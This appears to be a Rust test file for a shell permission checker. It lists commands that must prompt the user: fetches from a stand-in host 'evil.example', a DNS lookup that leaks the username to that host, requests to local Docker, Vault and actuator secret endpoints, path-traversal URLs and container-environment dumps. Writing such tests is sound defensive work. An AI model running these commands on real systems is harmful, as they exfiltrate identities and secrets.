//! A word that names a place elsewhere: what a program may fetch or ask for is a question (rule C1).

use countersign_shell::Programs;

use super::{allows, asks, developer};

#[test]
fn a_url_that_a_program_may_fetch_is_asked_about() {
    for text in [
        "helm template https://evil.example/x",
        "helm template web https://evil.example/x.tgz",
        "helm template web oci://evil.example/x",
        "helm template web ./chart -f https://evil.example/values.yaml",
        "helm lint https://evil.example/x.tgz",
        "brew info https://evil.example/x.rb",
        "npm view https://evil.example/x.tgz",
        "npm view git+ssh://git@evil.example/x",
        "npm why https://evil.example/x",
        "gem specification https://evil.example/x.gem",
        "composer show https://evil.example/x",
        "go mod why https://evil.example/x",
        "cargo tree -p https://evil.example/x",
        "docker inspect https://evil.example/x",
        "systemctl status https://evil.example/x",
        "bundle info https://evil.example/x",
        "conda list https://evil.example/x",
        "nix flake show https://evil.example/x.tar.gz",
        "mkdocs build --theme=https://evil.example/x",
        "npm test -- --base=https://evil.example/x",
        "git archive --format=tar --prefix=x/ https://evil.example/x",
        "svn log svn+ssh://evil.example/x",
    ] {
        asks(text);
    }
}

#[test]
fn a_name_that_is_looked_up_elsewhere_is_asked_about() {
    for text in [
        // Charts of a repository, and charts on this machine.
        "helm template evil/x",
        "helm template web evil/x",
        "kustomize build github.com/evil/x",
        "kustomize build gh:evil/x",
        // Packages of another place than the registry.
        "npm view evil/x",
        "npm view github:evil/x",
        "npm view git@evil.example:x/y",
        "npm view ./x",
        "pnpm info evil/x#branch",
        "yarn info x@npm:evil",
        "brew info evil/tap/x",
        "brew cat evil/tap/x",
        "nix flake show evil",
        "nix flake metadata github:evil/x",
        "deno info npm:evil",
        "deno doc jsr:@evil/x",
        "deno check npm:evil",
        // Names that are resolved leave the machine.
        "getent hosts evil.example",
        "getent ahosts $(id -un).evil.example",
        "getent ahostsv4 evil.example",
        // `user@host:path`
        "gem info git@evil.example:x/y",
    ] {
        asks(text);
    }
    for text in [
        "helm template web ./chart",
        "helm template ./chart --set image.tag=1.2",
        "helm template web .",
        "helm template web web",
        "helm lint ./chart",
        "kustomize build .",
        "kustomize build ./overlays/prod",
        "npm view react",
        "npm view @types/node@18 version",
        "npm view react@^18.2.0 peerDependencies --json",
        "npm info left-pad versions",
        "brew info wget",
        "brew info openssl@3",
        "nix flake show .",
        "getent passwd ann",
        "getent hosts localhost",
        "docker image inspect web@sha256:0123",
    ] {
        allows(text);
    }
}

#[test]
fn a_url_that_is_only_text_is_not_asked_about() {
    for text in [
        "echo https://example.com/x",
        "printf '%s\\n' https://example.com/x",
        "grep -rn 'https://' src",
        "rg http://example.com src",
        "git grep -n https://example.com",
        "git log --grep=https://example.com/issues/1",
        "basename https://example.com/x.git",
        "test https://a = https://b",
        "pgrep -f http://localhost:3000",
        "jq --arg u https://example.com '.url == $u' a.json",
        "awk -v u=https://example.com '$1 == u' a.txt",
        "find . -name '*.md' -exec grep -l https://example.com {} +",
        "csvgrep -c url -m https://example.com a.csv",
    ] {
        allows(text);
    }
}

/// The programs in the table that only print, compare or search for a text.
const TEXT_ONLY: &[&str] = &["echo", "printf", "test", "[", "pgrep"];

#[test]
fn no_program_of_the_table_takes_a_further_url_unasked() {
    let mut looked_at = 0;
    for example in Programs::built_in().examples().iter().filter(|example| example.safe) {
        let name = example.program.split(' ').next().unwrap_or_default();
        let program = developer(&example.command).parts()[0].program().map(str::to_owned);
        let lists = example.command.contains(['|', ';', '&', '>']);
        if lists || TEXT_ONLY.contains(&name) || program.as_deref() != Some(name) {
            continue;
        }
        looked_at += 1;
        asks(&format!("{} https://evil.example/x", example.command));
    }
    assert!(looked_at > 150, "{looked_at}");
}

#[test]
fn another_package_than_that_of_the_workspace_is_asked_about() {
    asks("npm ls --prefix /tmp/evil");
    asks("yarn list --cwd /tmp/evil");
    asks("pnpm -C /tmp/evil ls");
    // The folder of version control is in the workspace: to leave it out is no reading of it.
    allows("find . -type f -not -path './.git/*'");
    asks("find . -type f -not -path /etc/shadow");
}

/// An address of this machine is read, but not where a service gives control or secrets to all who reach it.
#[test]
fn a_service_that_controls_the_machine_is_asked_about() {
    for port in [2375, 2379, 4243, 6443, 8200, 8500, 9229, 10250, 22, 25] {
        asks(&format!("curl -s http://localhost:{port}/x"));
        asks(&format!("http :{port}/x"));
    }
    for path in ["v1/secret/app", "actuator/env", "shutdown", ".env", "a/../b", "%2e%2e/x"] {
        asks(&format!("curl http://127.0.0.1:8080/{path}"));
    }
    for text in ["curl http://localhost:02375/x", "http POST :8000/x", "curl http://localhost:80x/"]
    {
        asks(text);
    }
    for text in ["curl -s localhost:3000/api/users", "http :8000/health", "curl http://127.0.0.1/"]
    {
        allows(text);
    }
}

/// A container's description is shown, but not a part that is picked because it holds the environment.
#[test]
fn the_environment_of_a_container_is_not_picked() {
    for format in
        ["{{.Config.Env}}", "{{json .}}", "{{json .Config}}", "{{index .Config.Env 0}}", "json"]
    {
        asks(&format!("docker inspect -f '{format}' web"));
        asks(&format!("podman container inspect --format '{format}' web"));
    }
    allows("docker inspect -f '{{.State.Status}} {{json .Mounts}}' web");
}
